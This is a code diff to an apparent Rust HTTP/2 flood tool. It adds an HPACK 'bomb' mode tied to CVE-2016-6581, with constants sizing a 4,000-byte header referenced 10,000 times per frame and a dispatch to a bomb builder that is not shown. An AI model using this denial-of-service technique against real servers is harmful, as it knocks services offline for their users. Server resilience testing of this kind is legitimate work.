@@ -19,6 +19,10 @@ use crate::http1::{connect, word};
 /// Before a connection that ended is opened anew.
 const PAUSE: Duration = Duration::from_millis(10);
 const CHUNK: usize = 32 * 1024;
+/// Bytes of the field that is named over and over: next to all that the default table of 4,096 bytes takes.
+const BOMB_FIELD: u16 = 4_000;
+/// As many as a frame of 16 KiB has room for, beside the field.
+const BOMB_REFERENCES: usize = 10_000;
 const LAST_STREAM: u32 = 0x7fff_fff0;
 
 #[derive(clap::Args)]
@@ -46,6 +50,8 @@ enum Kind {
     EmptyData,
     WindowUpdate,
     Priority,
+    /// Heads of a few bytes for each of the thousands that they stand for (CVE-2016-6581).
+    HpackBomb,
 }
 
 #[derive(Default)]
@@ -153,6 +159,10 @@ fn add(out: &mut Vec<u8>, kind: Kind, stream_id: &mut u32) -> u64 {
         Kind::EmptyData => frames::push(out, frames::DATA, 0, id, &[]),
         Kind::WindowUpdate => frames::push(out, frames::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
         Kind::Priority => frames::push(out, frames::PRIORITY, 0, id, &[0, 0, 0, 0, 16]),
+        Kind::HpackBomb => {
+            frames::bomb(out, id, "/flood", BOMB_FIELD, BOMB_REFERENCES);
+            *stream_id += 2;
+        }
     }
     1
 }
